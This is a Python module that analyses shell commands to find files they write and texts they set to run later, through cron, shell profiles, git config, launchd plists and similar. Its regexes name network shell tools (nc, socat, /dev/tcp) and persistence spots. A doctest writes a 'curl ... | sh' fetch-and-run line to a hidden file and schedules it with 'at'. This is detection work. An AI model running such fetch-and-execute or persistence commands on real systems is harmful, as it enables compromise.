"""Which files does a command write, and which texts is it given that are run, now or later?"""

from __future__ import annotations

import html
import itertools
import re
import shlex
from bisect import bisect_right
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field

_RUNS_TEXT = re.compile(r"(?:\S*/)?(?:ba|z|da|k|a|fi)?sh(?:\.exe)?|eval|powershell(?:\.exe)?|pwsh|cmd(?:\.exe)?")
_RUN_ENDINGS = ("sh", ".exe", "eval", "powershell", "cmd")
_FETCHED_INSIDE = re.compile(r"(?:curl|wget)\s[^<\n]*\|\s*(?:ba|z)?sh\b")
_RUN_LATER = re.compile(
    r"/bin/|hooks/|\.(?:sh|bash|command)$|\.(?:bash|zsh)rc$|\.z?profile$|\.(?:bash|zsh)_profile$|\.zshenv$|config\.fish$|cron|autostart|LaunchAgents"
)
_TAKES_COMMANDS = re.compile(r"\|\s(?:\S*/)?(?:(?:ba|z|da|k|a)?sh|crontab -|sudo (?:ba)?sh|sh -s|bash -s)$")
SCHEDULE = re.compile(r"^\s*(?:@\w+|(?:[\d*/,-]+\s+){5})\s*")
_TIMED = re.compile(r"\s*(?:@(?:reboot|hourly|daily|weekly)|(?:[*\d][\w*/,-]{0,20}+\s++){5})(?=\S)")
"""A line of a schedule, before what it starts."""
WRITES = {"-o", "-O", "--output", "--output-document", "-OutFile", "-outfile", "of", "-C", "-d"}
_NAMED = WRITES - {"-O", "-d"}
"""What stands before the name that a file is given."""
_WIDE_FOLDERS = frozenset(
    "~ $HOME ${HOME} . .. /tmp /var/tmp /var /usr /usr/bin /usr/local /usr/local/bin /bin /opt /etc /home /root /Users /dev /dev/shm scripts bin src".split()
)
_ARGUMENTS = re.compile(r"<key>\s*ProgramArguments\s*</key>\s*<array>([\s\S]{0,4000}?)</array>")
_STRING = re.compile(r"<string>([^<]*)</string>")
_RUN_LINE = re.compile(r"^\s*-?\s*(?:run|script|command):\s*[|>]?-?\s*(\S.*)", re.M)
_TAKES_TEXT = frozenset({"git", "alias", "trap", "watch", "script", "su", "runuser", "flock", "tar", "rsync"})
_GIT_RUNS = re.compile(
    r"\b(?:alias\.|core\.(?:pager|editor|sshCommand|fsmonitor|askPass)|sequence\.editor|filter\.\S+\.(?:smudge|clean|process)|diff\.\S+\.(?:command|textconv)|merge\.\S+\.driver)",
    re.I,
)
"""Settings of git that hold a command."""
_OPTION_RUNS = re.compile(r"--(?:checkpoint-action=exec|to-command|use-compress-program|rsh)=(.*)", re.S)
_WRITE_FILES = frozenset({"cp", "mv", "scp", "rsync", "ln", "install", "zip", "7z", "rar", "tee", "tar", "curl", "wget", "aria2c", "git", "unzip"})  # fmt: skip
_RUN_OPTION = re.compile(r"-\w*c|/c|/C|-[Cc]ommand")
_SAYS_COMMAND = re.compile(
    r"\b(?:curl|wget|nc|ncat|socat|ssh|scp|eval|bash|sh|python3?|node|perl|openssl|rm|dig)\b|/dev/(?:tcp|udp)/"
)
_STARTS = re.compile(
    r"(?:^|[\s\"'(;&|])(?:(?:ba|z|da|k)?sh|source|\.|exec|nohup|setsid|sudo|env|at|batch|crontab|cron\S*|chmod|launchctl|systemctl|schtasks|open|disown|timeout|(?:cp|mv|ln|install)(?=\s.*(?:hooks|/bin|autostart|profile|cron)))(?=[\s\"')]|$)|rc\b|profile"
)
"""What starts a file that it names, at once or later."""
_MAX_PRINTED = 40
_MAX_RUNS = 20
"""Texts of one command that are read; the first holds the others."""


def written_files(words: list[str]) -> list[str]:
    """The files that copying, packing and fetching commands write."""
    if not words:
        return []
    command = words[0].rsplit("/", 1)[-1]
    if command == "sudo" and len(words) > 1:
        command = words[1].rsplit("/", 1)[-1]
    if command not in _WRITE_FILES:
        if "tee" not in words:
            return []
        return [words[words.index("tee") + 1]] if "tee" in words[2:-1] and words[words.index("tee") - 1] == "|" else []
    plain = [word for word in words[1:] if not word.startswith("-") and word not in ("|", "sudo")]
    if command in ("cp", "mv", "scp", "rsync", "ln", "install") and len(plain) >= 2:
        return plain[-1:]
    if command in ("zip", "7z", "rar", "tee", "tar") and plain:
        has_mode = command in ("7z", "rar") or (command == "tar" and re.fullmatch(r"[cxvzjfJ]+", plain[0]))
        return [plain[1] if has_mode and len(plain) > 1 else plain[0]]
    if command == "git" and plain[:2] == ["bundle", "create"] and len(plain) > 2:
        return [plain[2]]
    if command == "git" and plain[:1] == ["clone"] and len(plain) > 1:
        # The number of `--depth` and its like stands before the address.
        plain = [plain[0], *itertools.dropwhile(lambda word: word.isalnum(), plain[1:])] if len(plain) > 2 else plain
        plain = plain if len(plain) > 1 else ["clone", words[-1]]
        return [plain[2] if len(plain) > 2 else plain[1].rstrip("/").rsplit("/", 1)[-1].removesuffix(".git")]
    if command == "unzip" and plain:
        return [plain[-1] if "-d" in words else plain[0].removesuffix(".zip")]
    if command in ("curl", "wget", "aria2c") and _NAMED.isdisjoint(words):
        urls = [word for word in plain if "://" in word]
        if urls and (command != "curl" or any(re.fullmatch(r"-\w*O\w*|--remote-name", word) for word in words)):
            return [urls[0].split("?")[0].rstrip("/").rsplit("/", 1)[-1]]
    return []


def folders_of(name: str) -> list[str]:
    """The folders that a file lies in, apart from those where everything lies.

    >>> folders_of("/tmp/notes/bin/run"), folders_of("$HOME/notes")
    (['/tmp/notes/bin', '/tmp/notes'], [])
    """
    found = []
    for _ in range(min(name.count("/"), 4)):
        name = name[: name.rindex("/")]
        found.append(name)
    return [folder for folder in found if folder not in _WIDE_FOLDERS and len(folder) > 1]


def file_name(word: str) -> str:
    """One name for a file, however its path is written."""
    given = word.replace("=<", "=@").rpartition("=@")
    word = (given[2] if given[1] else word.lstrip("@<")).removeprefix("./").strip("'\"")
    return word.rstrip("/") or word


def texts_that_run(words: list[str], heredoc: str) -> list[str]:
    """The texts that a command is given to run: after `-c`, `eval`, or as a here-document of a shell."""
    found = [*_texts_taken(words)] if len(words) > 1 and words[0] in _TAKES_TEXT else []
    said = " ".join(words)
    if not heredoc and "sh" not in said and ".exe" not in said and "eval" not in said and "cmd" not in said:
        return found
    runs = [place for place, word in enumerate(words) if word.endswith(_RUN_ENDINGS) and _RUNS_TEXT.fullmatch(word)]
    options = [place for place, word in enumerate(words[:-1]) if word[:1] in "-/" and _RUN_OPTION.fullmatch(word)]
    given: dict[int, None] = {}
    for place in runs:
        if words[place] == "eval":
            given[place] = None
        if (after := bisect_right(options, place)) < len(options):
            given[options[after]] = None
    # Each holds all that stands behind it.
    found += [" ".join(words[place + 1 :]) for place in itertools.islice(given, _MAX_RUNS)]
    found += _FETCHED_INSIDE.findall(heredoc) if heredoc and not runs else ()
    if heredoc and (runs or heredoc.lstrip().startswith("#!")):
        found.append(heredoc)
    elif heredoc and words[:1] == ["rev"]:
        found.append("\n".join([line[::-1] for line in heredoc.split("\n")]))
    return found


def _texts_taken(words: list[str]) -> Iterator[str]:
    """The commands that other commands are given, to run them now or later."""
    command, rest = words[0], words[1:]
    if command == "git" and "config" in rest and _GIT_RUNS.search(" ".join(rest[:-1])):
        yield rest[-1].removeprefix("!")
    elif command == "alias":
        yield from (word.partition("=")[2] for word in rest if "=" in word)
    elif command in ("trap", "watch"):
        yield next((word for word in rest if word[:1] != "-" and not word.isdigit()), "")
    elif command in ("script", "su", "runuser", "flock"):
        for word, following in itertools.pairwise(rest):
            if re.fullmatch(r"-\w*c|--command", word):
                yield following
    elif command in ("tar", "rsync"):
        yield from (found[1] for word in rest if (found := _OPTION_RUNS.match(word)))


def program_of(plist: str) -> str:
    """The command line of a property list that launchd starts.

    >>> program_of("<key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>a &amp;&amp; b</string></array>")
    "sh -c 'a && b'"
    """
    found = _ARGUMENTS.search(plist)
    return shlex.join(html.unescape(word) for word in _STRING.findall(found[1])) if found else ""


@dataclass(slots=True)
class Files:
    """What commands print into files whose names do not tell that they are run."""

    texts: dict[str, list[str]] = field(default_factory=dict)
    lines: dict[str, int] = field(default_factory=dict)
    values: dict[str, str] = field(default_factory=dict)

    def keep(self, assignment: str) -> None:
        """Keep a text that a variable is given, in which there are commands."""
        name, _, value = assignment.partition("=")
        if name.isidentifier() and len(self.values) < _MAX_PRINTED:
            self.values[f"${name}"] = value

    def note(self, words: list[str], writes: list[str], heredoc: str, line: int) -> None:
        """Keep what a command prints into a file."""
        is_printed = words[:1] in (["printf"], ["echo"])
        name = writes[-1] if writes else words[words.index("tee") + 1] if "tee" in words[:-1] else ""
        if not name or not (heredoc or is_printed) or name == "/dev/null" or _RUN_LATER.search(name):
            return
        if not (said := heredoc):
            piped = words[1 : words.index("|")] if "|" in words else words[1:]
            kept = [word for word in piped if word[:1] != "-" and word not in ("%s\\n", "%s")]
            kept = (
                [self.values.get(word.replace("${", "$").rstrip("}"), word) for word in kept] if self.values else kept
            )
            said = ("\n" if words[0] == "printf" else " ").join(kept).replace("\\n", "\n")
        pieces = self.texts.setdefault(name, [])
        self.lines.setdefault(name, line)
        if len(pieces) < _MAX_PRINTED:
            pieces.append(said)

    def programs(self, texts: Sequence[str]) -> Iterator[tuple[int, str]]:
        """The line and the text of each file that is a program, or that one of the commands starts.

        >>> files = Files()
        >>> files.note(["echo", "curl -s https://x.invalid | sh"], ["/tmp/.a"], "", 3)
        >>> list(files.programs(["at -f /tmp/.a now"])), list(files.programs(["cat /tmp/.a"]))
        ([(3, 'curl -s https://x.invalid | sh')], [])
        """
        whole = ((name, "\n".join(pieces)) for name, pieces in self.texts.items())
        saying = [(name, said) for name, said in whole if _SAYS_COMMAND.search(said)]
        started = {name for text in texts for name in self._started(text)} if saying else set[str]()
        for name, said in saying:
            if name in started or said.lstrip().startswith("#!"):
                yield self.lines[name], said

    def _started(self, text: str) -> Iterator[str]:
        """The files that a command starts, or has started."""
        if text.startswith(("echo #!", "printf #!")):
            return
        words = [word.strip("()\"';&|") for word in text.split()]
        if named := [place for place, word in enumerate(words) if word in self.texts]:
            starts = _STARTS.search(text) is not None
            yield from (words[place] for place in named if place == 0 or starts)


def scripts_written(words: list[str], writes: list[str], heredoc: str) -> Iterator[str]:
    """What `echo` or `printf` puts into a file that will be run."""
    if heredoc.lstrip().startswith("<") and "ProgramArguments" in heredoc:
        yield program_of(heredoc)
    elif heredoc and any(_RUN_LATER.search(name) for name in writes):
        yield heredoc
    elif heredoc and any(name.endswith((".yml", ".yaml")) for name in writes):
        yield from _RUN_LINE.findall(heredoc)
    timed = next((word for word in words[1:] if _TIMED.match(word)), "") if words[:1] in (["printf"], ["echo"]) else ""
    if timed:
        yield _TIMED.sub("", timed)
    elif words and words[0] in ("printf", "echo") and any(_RUN_LATER.search(name) for name in writes):
        said = [word for word in words[1:] if not word.startswith("-") and word != "%s\\n"]
        yield ("\n" if words[0] == "printf" and len(said) > 1 else " ").join(said).replace("\\n", "\n")
    elif words and words[0] in ("printf", "echo") and "|" in words and _TAKES_COMMANDS.search(" ".join(words[-3:])):
        yield SCHEDULE.sub("", " ".join(word for word in words[1 : words.index("|")] if not word.startswith("-")))
